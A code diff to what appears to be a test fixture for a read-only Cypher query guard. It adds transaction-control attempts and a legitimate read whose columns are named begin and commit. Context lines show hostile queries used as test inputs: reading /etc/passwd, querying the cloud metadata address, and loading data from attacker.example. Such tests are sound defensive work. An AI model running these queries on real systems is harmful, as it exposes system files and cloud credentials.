@@ -34,6 +34,9 @@ export const WRITE_ATTEMPTS: WriteAttempt[] = [
   { name: 'INSERT (GQL)', cypher: 'INSERT (:Hacked)' },
   { name: 'LOAD CSV from a file', cypher: "LOAD CSV FROM 'file:///etc/passwd' AS line RETURN line" },
   { name: 'LOAD CSV from a URL', cypher: "LOAD CSV WITH HEADERS FROM 'http://169.254.169.254/latest/meta-data' AS row RETURN row" },
+  { name: 'BEGIN', cypher: 'BEGIN' },
+  { name: 'COMMIT', cypher: 'COMMIT;' },
+  { name: 'ROLLBACK', cypher: 'ROLLBACK' },
   { name: 'USING PERIODIC COMMIT', cypher: "USING PERIODIC COMMIT 500 LOAD CSV FROM 'https://attacker.example/x.csv' AS l CREATE (:Hacked)" },
   { name: 'apoc.load.json', cypher: "CALL apoc.load.json('http://attacker.example/x.json') YIELD value RETURN value" },
   { name: 'apoc.load.jdbc', cypher: "CALL apoc.load.jdbc('jdbc:mysql://db/x', 'SELECT 1') YIELD row RETURN row" },
@@ -186,6 +189,7 @@ export const LEGIT_READS: LegitRead[] = [
   { name: 'comments containing writing words', cypher: 'MATCH (p:Person) // CREATE (x)\nRETURN count(p) AS n /* DETACH DELETE p */', rows: [{ n: 3 }] },
   { name: 'a property named set (backtick-quoted for Grafeo)', cypher: "MATCH (p:Person {name: 'Alice Smith'}) RETURN p.`set` AS s", rows: [{ s: 'blue' }] },
   { name: 'a label named like a keyword', cypher: 'MATCH (n:`Set`) RETURN count(n) AS n', rows: [{ n: 0 }] },
+  { name: 'columns named begin and commit (a graph’s own words, not transaction control)', cypher: "MATCH (p:Person {name: 'Alice Smith'}) RETURN p.name AS begin, 1 AS commit ORDER BY begin", rows: [{ begin: 'Alice Smith', commit: 1 }] },
   {
     name: 'db.labels()',
     cypher: 'CALL db.labels() YIELD label RETURN label ORDER BY label',
